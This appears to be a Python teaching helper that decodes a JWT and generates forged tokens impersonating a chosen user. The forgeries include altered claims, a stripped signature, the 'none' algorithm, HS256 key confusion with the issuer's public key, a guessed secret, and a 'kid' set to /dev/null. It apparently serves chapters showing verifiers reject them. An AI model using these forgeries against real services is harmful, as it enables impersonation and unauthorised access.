"""Attacks on tokens, as anybody can make them who has seen one: for chapters that show them fail."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any

__all__ = ["forged_tokens", "read_token"]


def read_token(token: str) -> dict[str, dict[str, Any]]:
    """Header and claims of a JWT. Nothing is checked: they are readable by anybody, and only signed."""
    header, claims, _ = token.split(".")
    return {"header": _decoded(header), "claims": _decoded(claims)}


def forged_tokens(token: str, key_set: Mapping[str, Any], *, subject: str) -> dict[str, str]:
    """Ways to become `subject` with somebody else's token and the issuer's published keys (RFC 7517)."""
    header, claims = read_token(token).values()
    signature = token.rpartition(".")[2]
    others = claims | {"sub": subject}
    public = _bytes(key_set["keys"][0]["x"])
    return {
        "claims changed, signature kept": f"{_encoded(header)}.{_encoded(others)}.{signature}",
        "signature left out": f"{_encoded(header)}.{_encoded(others)}.",
        'algorithm "none"': f"{_encoded(header | {'alg': 'none'})}.{_encoded(others)}.",
        "HS256, its secret our public key": _hs256(header, others, public),
        "HS256, its secret a guess": _hs256(header, others, b"secret"),
        "a key that the token names itself": _hs256(header | {"kid": "/dev/null"}, others, b""),
    }


def _hs256(header: Mapping[str, Any], claims: Mapping[str, Any], secret: bytes) -> str:
    signed = f"{_encoded({**header, 'alg': 'HS256'})}.{_encoded(claims)}"
    mac = hmac.new(secret, signed.encode(), hashlib.sha256).digest()
    return f"{signed}.{base64.urlsafe_b64encode(mac).decode().rstrip('=')}"


def _encoded(part: Mapping[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=")


def _decoded(part: str) -> dict[str, Any]:
    decoded: dict[str, Any] = json.loads(_bytes(part))
    return decoded


def _bytes(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))
